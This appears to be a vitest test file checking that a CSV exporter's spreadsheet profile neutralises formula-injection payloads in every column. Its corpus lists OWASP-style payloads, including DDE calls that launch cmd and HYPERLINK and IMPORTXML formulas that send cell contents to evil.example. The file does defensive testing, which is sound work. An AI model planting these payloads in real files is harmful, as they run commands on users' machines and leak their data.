import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'

import { exportBankToString } from '../../exporters/index'
import { sourceFromArrays } from '../../exporters/source'
import { restoreCell } from '../../format/csv'

/**
 * The CSV injection corpus (OWASP "CSV Injection" and common payload lists):
 * in the spreadsheet profile no cell of any column starts the way a
 * spreadsheet starts a formula or DDE call, and every payload reads back as
 * written.
 */
const corpus = [
  '=1+1',
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '+1+1',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '-cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\t@SUM(1,1)',
  "'=1+1",
  "''=1+1",
  "'+cmd",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=2+5+cmd|\' /C calc\'!A0',
  '"=1+1"',
]

/** What a spreadsheet takes for a formula or DDE: the first character of the cell. */
const formulaStart = /^[=+\-@\t\r]/

const bankOf = (payload: string, index: number) =>
  sourceFromArrays({
    role: { slug: 'csv-role', name: `${payload} role`, title: null, summary: null },
    levels: [
      {
        level: { slug: `level-${index}`, name: payload.trim() ? payload : `level ${index}`, rank: 1 },
        questions: [{ id: `q-${index}`, prompt: payload, tags: [payload.replace(/[\s,;]+/g, '')], hints: [{ markdown: payload, plainText: payload }] }],
      },
    ],
  })

describe('CSV injection corpus', () => {
  it.each(corpus.map((payload, index) => ({ payload, index })))('spreadsheet profile neutralises $payload in every column', async ({ payload, index }) => {
    const text = await exportBankToString({ source: bankOf(payload, index), format: 'csv', csvProfile: 'spreadsheet' })
    const [header, row] = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][]
    expect(header[0]).toBe('id')
    for (const [column, cell] of row.entries()) {
      expect(formulaStart.test(cell), `${header[column]}: ${JSON.stringify(cell)}`).toBe(false)
    }
    // Nothing else is lost: the reader's restoreCell gives back the prompt as the exporter writes it (trimmed).
    expect(restoreCell(row[header.indexOf('prompt')])).toBe(payload.trim())
  })

  it('the standard profile is for programs, not spreadsheets: it writes cells as they are', async () => {
    const text = await exportBankToString({ source: bankOf('=1+1', 0), format: 'csv', csvProfile: 'standard' })
    const [, row] = parse(text) as string[][]
    expect(row[5]).toBe('=1+1')
  })
})
